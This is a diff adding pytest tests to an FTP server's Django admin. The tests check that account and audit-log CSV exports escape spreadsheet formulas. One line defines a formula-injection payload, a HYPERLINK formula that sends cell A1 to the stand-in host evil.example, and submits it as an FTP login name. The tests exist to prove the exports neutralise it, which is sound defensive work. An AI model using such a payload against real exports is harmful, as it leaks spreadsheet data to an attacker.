@@ -8,6 +8,7 @@ repeats another; the formula guard holds in every format.
 
 import csv
 import datetime
+import ftplib
 import io
 import json
 import zoneinfo
@@ -20,12 +21,15 @@ from ftpadmin import exports
 from ftpadmin.resources import AuditEventResource
 from ftpserver_core.models import AuditEvent
 
+from .audit_tools import wait_until
+
 UTC = datetime.UTC
 PARIS = zoneinfo.ZoneInfo("Europe/Paris")
 EXPORT = reverse("admin:ftpserver_core_auditevent_export")
 FIELDS = AuditEventResource().get_export_order()
 TRANSFERS_CSV = reverse("ftpadmin:transfers_csv")
 TRANSFERS_EXCEL_CSV = reverse("ftpadmin:transfers_excel_csv")
+ACCOUNTS_EXPORT = reverse("admin:ftpserver_core_ftpuseraccount_export")
 BOM = b"\xef\xbb\xbf"
 NAME = "/in/résumé.txt"
 # Clocks went forward in Paris at 01:00 UTC on 29 March 2026: 01:30 CET
@@ -260,6 +264,65 @@ def test_transfers_csv_for_excel_neutralises_formulas(audit_viewer, formulas):
     rows = list(csv.reader(io.StringIO(text)))[1:]
     column = exports.CSV_HEADER.index("ftp_path")
     assert sorted(row[column] for row in rows) == sorted("'" + f for f in FORMULAS)
+
+
+def _export_accounts(client, label):
+    """The accounts export (ImportExportModelAdmin) in format ``label``."""
+    form = client.get(ACCOUNTS_EXPORT).context["form"]
+    formats = {str(text): value for value, text in form.fields["format"].choices}
+    fields = [name for name in form.fields if name.startswith("ftpuseraccount")]
+    data = {"format": formats[label]} | dict.fromkeys(fields, "on")
+    response = client.post(ACCOUNTS_EXPORT, data)
+    assert response.status_code == 200, response.content[:500]
+    assert response["Content-Disposition"].startswith("attachment;")
+    return response
+
+
+def test_the_accounts_csv_export_neutralises_formulas(admin_client, make_account):
+    """Group names and e-mail addresses are chosen by people too."""
+    for n, text in enumerate(FORMULAS):
+        account = make_account(f"user{n}", group=text)
+        account.user.email = text + "@example.com"
+        account.user.save()
+    text = _export_accounts(admin_client, "csv").content.decode("utf-8")
+    rows = [r for r in csv.DictReader(io.StringIO(text)) if r["username"] != "admin"]
+    assert sorted(r["group"] for r in rows) == sorted("'" + f for f in FORMULAS)
+    assert sorted(r["email"] for r in rows) == sorted(
+        f"'{f}@example.com" for f in FORMULAS
+    )
+    # Nothing else starts a formula either.
+    cells = [cell for r in rows for cell in r.values()]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], cells
+
+
+EVIL_USER = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+@pytest.mark.parametrize("label", ["csv", "csv (Excel)"])
+def test_a_username_an_ftp_client_sent_is_exported_escaped(
+    admin_client, ftp_server, label
+):
+    """End to end: a real client's USER, recorded by the server's audit, is
+    text in the admin's CSV export, never a formula."""
+    live = ftp_server()
+    ftp = live.client()
+    with pytest.raises(ftplib.error_perm, match="^530"):
+        ftp.login(EVIL_USER, "wrong")
+    ftp.quit()
+    wait_until(
+        lambda: AuditEvent.objects.filter(event="login_failed").exists(), timeout=10
+    )
+    assert AuditEvent.objects.get(event="login_failed").username == EVIL_USER
+    text = _export(admin_client, label).content.decode("utf-8-sig")
+    rows = [
+        dict(zip(FIELDS, row, strict=True))
+        for row in list(csv.reader(io.StringIO(text)))[1:]
+    ]
+    failed = [r for r in rows if r["event"] == "login_failed"]
+    assert [r["username"] for r in failed] == ["'" + EVIL_USER]
+    cells = [cell for r in rows for cell in r.values()]
+    assert EVIL_USER not in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], cells
 
 
 # The streaming transfers CSV ------------------------------------------------------
